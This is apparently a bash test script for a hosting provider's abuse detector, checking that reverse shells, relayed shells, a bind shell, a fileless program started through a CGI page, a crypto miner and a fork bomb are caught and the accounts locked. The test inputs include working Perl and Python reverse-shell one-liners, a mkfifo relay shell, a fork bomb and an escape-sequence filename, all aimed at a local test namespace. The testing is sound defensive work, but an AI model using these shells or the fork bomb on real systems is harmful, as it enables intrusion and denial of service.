#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# U6, the part about behaviour: a fork bomb is noticed and ended (how long it lasted is told), a shell that
# has a connection to another machine for its terminal, three that somebody hands on to (by pipes in a
# ring, from a terminal that he made, byte by byte), a program without a file that the web
# server was made to start, and a miner that hands shares in to a pool, through a proxy too; all lock the
# account. The crowd forks, connects, serves and runs programs from everywhere, for good reasons; it has
# a client's script on a connection, and an agent that is sent what to build; it asks
# a pool how it does, and has a batch system with jobs to submit.
set -u
. "$(dirname "$0")/../lib/host.sh"
. "$(dirname "$0")/../lib/daemons.sh"
host_enter "$@"

host_pair <<<''
host_account carol 61003
host_account dan 61004
host_account erin 61005
host_account frank 61006
host_account grace 61007
host_account heidi 61008
host_account ivan 61009
chmod 755 "$HOST" "$HOST/home"
# Another machine: a network namespace of its own, behind a cable.
ip link add elsewhere type veth peer name cable 2>/dev/null || tap_skip "needs ip and veth"
unshare --net sleep 600 &
far=$!
wait_for 5 "another machine" bash -c "[ \"\$(readlink /proc/$far/ns/net)\" != \"\$(readlink /proc/self/ns/net)\" ]"
ip link set cable netns $far
ip addr add 192.0.2.1/24 dev elsewhere && ip link set elsewhere up
there() { nsenter --net=/proc/$far/ns/net "$@"; }
there ip addr add 192.0.2.9/24 dev cable && there ip link set cable up
listener='use IO::Socket::INET; $s = IO::Socket::INET->new(LocalAddr => $ARGV[0], LocalPort => $ARGV[1], Listen => 9, ReuseAddr => 1) or die;
	while ($c = $s->accept) { $c->autoflush; print $c "exit 0\n"; 1 while <$c>; close $c }'
person='use IO::Socket::INET; $SIG{PIPE} = "IGNORE"; $s = IO::Socket::INET->new(LocalAddr => $ARGV[0], LocalPort => $ARGV[1], Listen => 9, ReuseAddr => 1) or die;
	while ($c = $s->accept) { if (fork) { close $c; next } $c->autoflush; for (map("echo word $_\n", 1 .. 4), "exit 0\n") { select undef, undef, undef, 0.4; print $c $_ } exit }'
there perl -e "$listener" 192.0.2.9 4444 &
there perl -e "$person" 192.0.2.9 4446 &
perl -e "$listener" 127.0.0.1 4445 &
install -m 755 "$(dirname "$0")/miner" "$HOST/miner"
there python3 "$(dirname "$0")/pool" 192.0.2.9 &
# Each of them is its own incident here.
host_set breaker-least 12
host_start

locked() { ask case "$1" "any(o['verb'] == 'lock' and o['state'] == 'done' for o in data['case']['orders'])"; }
tells() { ask case "$1" "any('$2' in (e.get('deed') or '') for e in data['case']['evidence'])"; }
nothing() { ask cases --all "not any(c['account'] == '$1' and c['clause'] == 'U6a' for c in data['cases'])"; }
call='use IO::Socket::INET; $s = IO::Socket::INET->new(PeerAddr => $ARGV[0], PeerPort => $ARGV[1]) or die $!;'
as_terminal='open(STDIN, "<&", $s); open(STDOUT, ">&", $s); exec("/bin/sh")'

cat >"$HOST/home/bob/Makefile" <<-'RULES'
	all: $(shell seq -f o%g 60)
	o%: ; @sh -c 'true; (true | cat)'
RULES
# A client's script, which has its connection for a terminal; and an agent that is told what to build.
printf '#!/bin/sh\necho hello\nread -r answer\n' >"$HOST/home/bob/client" && chmod 755 "$HOST/home/bob/client"
agent='import socket, subprocess, sys
line = socket.create_connection((sys.argv[1], int(sys.argv[2])))
shell = subprocess.Popen(["sh"], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL)
for job in line.makefile("rb"):
    shell.stdin.write(b"true; " + job)
    shell.stdin.flush()
    line.sendall(b"done\n")'
hands_on='import os, socket, subprocess, sys, threading
line = socket.create_connection((sys.argv[1], int(sys.argv[2])))
shell = subprocess.Popen(["sh", "-i"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
def back():
    while said := os.read(shell.stdout.fileno(), 999): line.sendall(said)
threading.Thread(target=back).start()
while told := line.recv(999): os.write(shell.stdin.fileno(), told)'
makes_terminal='import os, pty, socket, sys
line = socket.create_connection((sys.argv[1], int(sys.argv[2])))
for number in 0, 1, 2: os.dup2(line.fileno(), number)
pty.spawn("/bin/sh")'
ring='fork ? sub { syswrite STDOUT, $b while sysread $s, $b, 999 }->() : sub { syswrite $s, $b while sysread STDIN, $b, 999 }->()'
crowd() {
	as bob make -s -j8
	as bob sh -c 'for i in $(seq 100); do sleep 2 & done; wait'
	as bob perl -e 'for (1..40) { fork or do { select undef, undef, undef, 1; exit } } 1 while wait > 0'
	as bob perl -e "$call print \$s \"\\n\"; <\$s>; system('sh', '-c', 'true')" 192.0.2.9 4444
	as bob perl -e "$call $as_terminal" 127.0.0.1 4445
	as bob perl -e "$call ${as_terminal/exec(*)/exec(\"/lib64/ld-linux-x86-64.so.2\", \"/bin/true\")}" 192.0.2.9 4444
	as bob perl -e "$call ${as_terminal/exec(*)/exec(\"./client\")}" 192.0.2.9 4444
	as bob python3 -c "$agent" 192.0.2.9 4446
	as bob python3 "$HOST/miner" watch 192.0.2.9 3333
	as bob python3 "$HOST/miner" batch 192.0.2.9 3333
	as bob sh -c 'cp /bin/true /tmp/tool.$$; /tmp/tool.$$; cp /bin/sleep mine; ./mine 1 & sleep 0.3; rm mine /tmp/tool.$$; wait'
	as bob perl -MIO::Socket::INET -e '$l = IO::Socket::INET->new(LocalAddr => "192.0.2.1", LocalPort => 8080, Listen => 5, ReuseAddr => 1) or die;
		alarm 20; $c = $l->accept; open(STDIN, "<&", $c); open(STDOUT, ">&", $c); exec("/bin/sh", "-c", "echo hello")' &
	wait_for 10 "bob's server" grep -q ":1F90 .* 0A " /proc/net/tcp
	there perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => "192.0.2.1", PeerPort => 8080) or die; print <$s>' | grep -q hello
}
tap "U6 honest behaviour: the crowd runs" crowd

as alice perl -e "$call $as_terminal" 192.0.2.9 4444
tap "U6 break behaviour: a reverse shell is found" wait_for 10 "a case" has_case alice U6a
number=$(case_of alice U6a)
tap "U6 break behaviour: with the address that it served" tells "$number" "192.0.2.9:4444"
tap "U6 break lock: the account is locked" wait_for 20 "the lock" locked "$number"

# With somebody between.
printf 'mkfifo f; sh -i <f 2>&1 | perl -e '\''%s %s'\'' 192.0.2.9 4446 >f\n' "$call" "$ring" >"$HOST/home/frank/ring"
as frank sh ring 2>/dev/null &
as grace python3 -c "$makes_terminal" 192.0.2.9 4446 &
as heidi python3 -c "$hands_on" 192.0.2.9 4446 2>/dev/null &
for relay in frank grace heidi; do
	tap "U6 break behaviour: a shell behind a relay is found, $relay's" wait_for 15 "a case" has_case $relay U6a
done
# And one who waits to be called.
as ivan perl -MIO::Socket::INET -e '$l = IO::Socket::INET->new(LocalAddr => "192.0.2.1", LocalPort => 8081, Listen => 5, ReuseAddr => 1) or die;
	alarm 20; $s = $l->accept; '"$as_terminal" &
wait_for 10 "ivan's server" grep -q ":1F91 .* 0A " /proc/net/tcp
there perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => "192.0.2.1", PeerPort => 8081) or die; sleep 3' &
tap "U6 break behaviour: and a shell for whoever calls" wait_for 10 "a case" has_case ivan U6a
tap "U6 break behaviour: with who hands on" tells "$(case_of heidi U6a)" "gave dash, by way of python"

# A page that somebody broke into: it brings a program that was never a file.
host_script dan hole.cgi 'my $name = "x"; my $fd = syscall(319, $name, 0); open(my $out, ">&=", $fd) or die;
	open(my $in, "<", "/usr/bin/perl"); { local $/; binmode $out; print {$out} <$in> } $out->flush;
	exec { "/proc/self/fd/$fd" } "page", "-e", q(use IO::Socket::INET; IO::Socket::INET->new(PeerAddr => "192.0.2.9", PeerPort => 4444); sleep 20);'
host_script bob page.cgi 'use IO::Socket::INET; $s = IO::Socket::INET->new(PeerAddr => "192.0.2.9", PeerPort => 4444); print "Content-Type: text/plain\n\n", $s ? scalar(<$s>) : "nobody";'
tap "the web server starts" web_server
page bob page.cgi
page dan hole.cgi &
tap "U6 break behaviour: a program without a file is found" wait_for 15 "a case" has_case dan U6a
tap "U6 break behaviour: with whom it called" tells "$(case_of dan U6a)" "192.0.2.9:4444"
tap "U6 break lock: and the account is locked" wait_for 20 "the lock" locked "$(case_of dan U6a)"
pkill -o apache2

# A nonce is sought for real; what is handed in is what a pool would take.
as erin python3 "$HOST/miner" mine 192.0.2.9 3128 192.0.2.9:3333 &
tap "U6 break behaviour: a miner is found, behind a proxy" wait_for 25 "a case" has_case erin U6a
tap "U6 break behaviour: with its pool" tells "$(case_of erin U6a)" "shares to a mining pool at 192.0.2.9:3128"
tap "U6 break lock: and the account is locked" wait_for 20 "the lock" locked "$(case_of erin U6a)"
tap "U6 break behaviour: its processes are ended" wait_for 20 "the end" not pgrep -u 61005

# bounded USER MOST COMMAND...: as that customer, who can have so many processes and no more.
bounded() {
	local uid
	uid=$(uid_of "$1")
	silently prlimit --nproc="$2" setpriv --reuid "$uid" --regid "$uid" --clear-groups env -C "$HOST/home/$1" -i "${@:3}" 2>/dev/null
}
strange=$(printf 'b\x1b[2J\xff\nx')
install -m 755 /bin/bash "$HOST/home/carol/$strange"
# Sees by itself when there were many of them, and when none was left.
watch='use Time::HiRes qw(time sleep); sub alive { scalar grep { my @s = stat; @s && $s[4] == 61003 } glob "/proc/[0-9]*" }
	sleep 0.02 until alive() > 20; $b = time; sleep 0.02 while alive(); printf "%d\n", 1000 * (time - $b)'
nice -n -15 perl -e "$watch" >"$HOST/lasted" &
# Two for each processor, who are there first.
busy=$((2 * $(nproc)))
for _ in $(seq $busy); do as bob sh -c 'while :; do :; done' & done
wait_for 5 "a busy machine" bash -c "[ \"\$(pgrep -cu 61002 -x sh)\" = $busy ]"
bounded carol 2000 "./$strange" -c 'b() { b | b & }; b; sleep 20' &
tap "U6 break behaviour: a fork bomb is found" wait_for 20 "a case" has_case carol U6a
number=$(case_of carol U6a)
tap "U6 break behaviour: its processes are ended" wait_for 30 "the end" not pgrep -u 61003
wait_for 5 "the watch" test -s "$HOST/lasted"
echo "# of 2000 processes at most, beside $busy busy ones, it lasted $(cat "$HOST/lasted") ms"
pkill -u 61002 -x sh
tap "as a fork bomb" tells "$number" "forked"
tap "U6 break lock: and the account is locked" wait_for 20 "the lock" locked "$number"
tap "no name of his reaches a terminal" not grep -qP '\x1b\[2J' <(hayward case "$number"; hayward --json case "$number"; cat "$HOST"/mail/*.eml "$HOST/log")
tap "U6 honest behaviour: the crowd has no case" nothing bob
tap "U6 honest lock: and can log in" not suspended bob
kill $far
tap_end
